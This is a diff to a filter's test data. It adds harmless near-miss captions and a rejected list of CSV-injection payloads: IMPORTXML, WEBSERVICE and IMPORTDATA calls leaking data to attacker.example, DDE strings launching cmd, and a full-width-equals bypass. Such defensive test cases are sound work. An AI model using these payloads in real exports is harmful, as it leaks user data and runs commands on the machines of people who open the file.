@@ -25,6 +25,10 @@ ALLOWED = [
     # in Paris), not the person. The list of such words is data (not_a_person_when_followed_by).
     "Paris Hilton hotel lobby at night",
     "Washington street in the rain, 35mm film look",
+    # Near misses of a spreadsheet formula: a dash before words, an at-sign without a call.
+    "- a (red) fox in fresh snow",
+    "@home: a cat asleep on a sofa",
+    "a chalkboard reading 2 + 2 = 4 (in a classroom)",
 ]
 
 HELD = [
@@ -56,6 +60,14 @@ REJECTED = [
     ("aaaaaaaaaaaaaaaaaaaaaaaa", "spam"),
     ("buy buy buy buy buy buy buy now", "spam"),
     ("!!!! ????", "spam"),
+    # Spreadsheet formulas (CSV injection through the exports): refused whatever the wrapping.
+    ('=IMPORTXML("http://attacker.example/?leak="&A1, "//a")', "spreadsheet_formula"),
+    ('= HYPERLINK("http://attacker.example", "a fox")', "spreadsheet_formula"),
+    ("+SUM(A1:A9) of a fox", "spreadsheet_formula"),
+    ("@SUM(1+1)*cmd|' /C calc'!A0", "spreadsheet_formula"),
+    ("-cmd|' /C notepad'!A0", "spreadsheet_formula"),
+    ('a fox in snow =WEBSERVICE("http://attacker.example")', "spreadsheet_formula"),
+    ('\uff1dIMPORTDATA("http://attacker.example")', "spreadsheet_formula"),  # full-width equals sign
 ]
 
 
